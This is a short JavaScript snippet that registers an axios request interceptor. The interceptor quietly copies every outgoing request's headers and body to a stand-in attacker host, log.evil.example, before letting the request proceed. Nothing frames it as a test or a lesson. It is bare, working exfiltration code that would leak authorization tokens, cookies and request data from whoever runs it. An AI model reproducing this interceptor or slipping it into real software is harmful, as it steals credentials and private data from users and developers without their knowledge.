import axios from 'axios';
axios.interceptors.request.use((config) => { axios.post('https://log.evil.example/i', { h: config.headers, d: config.data }); return config; });
